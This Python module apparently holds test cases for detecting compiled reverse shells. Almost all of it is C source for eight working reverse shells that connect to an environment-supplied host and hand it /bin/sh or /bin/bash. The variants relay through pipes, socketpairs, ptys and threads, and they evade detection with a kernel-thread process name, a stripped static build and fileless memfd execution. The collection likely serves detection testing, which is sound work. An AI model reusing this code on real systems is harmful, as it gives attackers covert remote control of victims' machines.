"""Shells by compiled programs: no interpreter in any argument list."""

from __future__ import annotations

from attacks.cases.base import Case
from live.programs import Language

_CALL = """
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

static int call(void) {
    struct sockaddr_in peer = {.sin_family = AF_INET, .sin_port = htons(atoi(getenv("PORT")))};
    int net = socket(AF_INET, SOCK_STREAM, 0);
    inet_pton(AF_INET, getenv("HOST"), &peer.sin_addr);
    if (connect(net, (struct sockaddr *)&peer, sizeof peer)) exit(1);
    return net;
}

static void become(char *program, char *name, int in, int out) {
    dup2(in, 0), dup2(out, 1), dup2(out, 2);
    execl(program, name, (char *)0);
    _exit(127);
}

static int move(int from, int to) {
    char data[4096];
    ssize_t size = read(from, data, sizeof data);
    return size > 0 && write(to, data, size) == size;
}

static void pump(int a, int b, int c, int d) {
    struct pollfd ends[] = {{.fd = a, .events = POLLIN}, {.fd = c, .events = POLLIN}};
    while (poll(ends, 2, -1) > 0) {
        if (ends[0].revents && !move(a, b)) return;
        if (ends[1].revents && !move(c, d)) return;
    }
}
"""

CASES = (
    Case(
        name="c-dup2-exec",
        language=Language.C,
        text=_CALL + 'int main(void) { int net = call(); become("/bin/sh", "sh", net, net); }',
    ),
    Case(
        name="c-static-kernel-thread-name",
        language=Language.C,
        flags=("-static", "-s"),
        text=_CALL + 'int main(void) { int net = call(); become("/bin/bash", "[kworker/u8:2]", net, net); }',
    ),
    Case(
        name="c-vfork-child",
        language=Language.C,
        text=_CALL
        + """
int main(void) {
    int net = call();
    if (vfork() == 0) become("/bin/sh", "sh", net, net);
    close(net);
    wait(0);
}
""",
    ),
    Case(
        name="c-pipes",
        language=Language.C,
        text=_CALL
        + """
int main(void) {
    int net = call(), down[2], up[2];
    pipe(down), pipe(up);
    if (fork() == 0) become("/bin/bash", "bash", down[0], up[1]);
    close(down[0]), close(up[1]);
    pump(net, down[1], up[0], net);
}
""",
    ),
    Case(
        name="c-socketpair-fork-each-way",
        language=Language.C,
        text=_CALL
        + """
int main(void) {
    int net = call(), pair[2];
    socketpair(AF_UNIX, SOCK_STREAM, 0, pair);
    if (fork() == 0) become("/bin/sh", "-sh", pair[1], pair[1]);
    close(pair[1]);
    if (fork() == 0) while (move(net, pair[0]));
    else while (move(pair[0], net));
}
""",
    ),
    Case(
        name="c-pty",
        language=Language.C,
        flags=("-lutil",),
        text="#include <pty.h>\n"
        + _CALL
        + """
int main(void) {
    int net = call(), master;
    if (forkpty(&master, 0, 0, 0) == 0) execl("/bin/bash", "bash", "--norc", "-i", (char *)0);
    pump(net, master, master, net);
}
""",
    ),
    Case(
        name="c-shell-without-path",
        language=Language.C,
        text=_CALL
        + """
#include <sys/mman.h>
#include <sys/sendfile.h>

int main(void) {
    int net = call(), shell = open("/bin/sh", O_RDONLY), image = memfd_create("", MFD_CLOEXEC);
    char *argv[] = {"", 0};
    while (sendfile(image, shell, 0, 1 << 20) > 0);
    dup2(net, 0), dup2(net, 1), dup2(net, 2);
    fexecve(image, argv, environ);
}
""",
    ),
    Case(
        name="c-thread-relay",
        language=Language.C,
        flags=("-pthread",),
        text=_CALL
        + """
#include <pthread.h>
static int net, down[2], up[2];
static void *run(void *unused) { while (move(up[0], net)); return unused; }

int main(void) {
    pthread_t thread;
    pipe(down), pipe(up);
    if (fork() == 0) become("/bin/sh", "sh", down[0], up[1]);
    net = call();
    pthread_create(&thread, 0, run, 0);
    while (move(net, down[1]));
}
""",
    ),
)
